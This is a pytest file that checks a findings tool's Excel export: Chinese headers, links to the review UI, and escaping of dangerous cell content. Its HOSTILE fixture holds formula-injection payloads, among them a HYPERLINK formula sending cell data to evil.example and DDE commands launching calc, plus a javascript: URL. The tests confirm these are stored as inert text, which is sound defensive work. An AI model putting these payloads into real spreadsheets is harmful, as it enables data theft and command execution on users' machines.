"""`greenroom findings --format xlsx`: opened with openpyxl and checked cell by cell."""

from __future__ import annotations

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from greenroom.cli import cli
from storage.db import connect
from tests.ui.casedb import FAKE, build

TITLES = [
    "发现编号",
    "检查项",
    "严重程度",
    "对象类型",
    "对象网址",
    "状态",
    "首次发现（UTC）",
    "最后发现（UTC）",
    "发现说明",
    "证据摘录",
    "证据页",
    "采集原件",
]
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "javascript:alert(1)"),
    ("+cmd|' /C calc'!A0", "http://127.0.0.1/item/plus"),
    ("-2+3", "http://127.0.0.1/item/minus"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "http://127.0.0.1/item/at"),
]


@pytest.fixture(scope="module")
def sheet(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("xlsx")
    path = tmp / "f.db"
    build(path)
    db = connect(path)
    for n, (message, url) in enumerate(HOSTILE, 100):
        db.execute(
            "INSERT INTO findings (id, check_id, severity, subject_type, subject_url, message, "
            "snippet, first_seen, last_seen, status) VALUES (?, 'listing.absolute_claim', "
            "'low', 'listing', ?, ?, ?, '2026-03-07T02:00:00Z', '2026-03-07T02:00:00Z', "
            "'resolved')",
            [n, url, message, "片段\x01\x0b控制字符"],
        )
    out = tmp / "findings.xlsx"
    result = CliRunner().invoke(
        cli,
        [
            "findings",
            "--db",
            str(path),
            "--format",
            "xlsx",
            "--out",
            str(out),
            "--ui-url",
            "http://10.1.2.3:8001/",
        ],
    )
    assert result.exit_code == 0, result.output
    assert "9 findings" in result.output
    wb = load_workbook(out)
    return wb, {r[0].value: r for r in wb.active.iter_rows(min_row=2)}


def test_one_sheet_with_chinese_titles_a_frozen_header_and_filters(sheet):
    wb, rows = sheet
    assert wb.sheetnames == ["发现的问题"]
    ws = wb.active
    assert [c.value for c in ws[1]] == TITLES
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:L{len(rows) + 1}"


def test_a_finding_row_reads_in_chinese_and_links_to_the_ui_and_its_capture(sheet):
    _, rows = sheet
    row = rows[1]  # listing.counterfeit_signal on the fake Nike listing, capture 2
    values = [c.value for c in row]
    assert values[:6] == [1, "listing.counterfeit_signal", "高", "商品", FAKE, "未解决"]
    assert row[4].hyperlink.target == FAKE
    assert (row[10].value, row[10].hyperlink.target) == (
        "打开",
        "http://10.1.2.3:8001/-/finding/1",
    )
    assert (row[11].value, row[11].hyperlink.target) == (
        "采集 #2",
        "http://10.1.2.3:8001/-/capture/2",
    )
    assert row[11].font.u == "single"


@pytest.mark.parametrize("n, message", [(100 + i, m) for i, (m, _) in enumerate(HOSTILE)])
def test_text_that_looks_like_a_formula_is_stored_as_text(sheet, n, message):
    _, rows = sheet
    cell = rows[n][8]
    assert (cell.value, cell.data_type) == (message, "s")
    assert cell.quotePrefix


def test_no_link_to_anything_but_the_web_and_no_control_characters(sheet):
    _, rows = sheet
    assert rows[100][4].value == "javascript:alert(1)" and rows[100][4].hyperlink is None
    assert rows[100][9].value == "片段  控制字符"
    assert rows[100][5].value == "已解决"


def test_xlsx_needs_a_file(tmp_path):
    path = tmp_path / "f.db"
    build(path)
    result = CliRunner().invoke(cli, ["findings", "--db", str(path), "--format", "xlsx"])
    assert result.exit_code == 2 and "give --out FILE.xlsx" in result.output
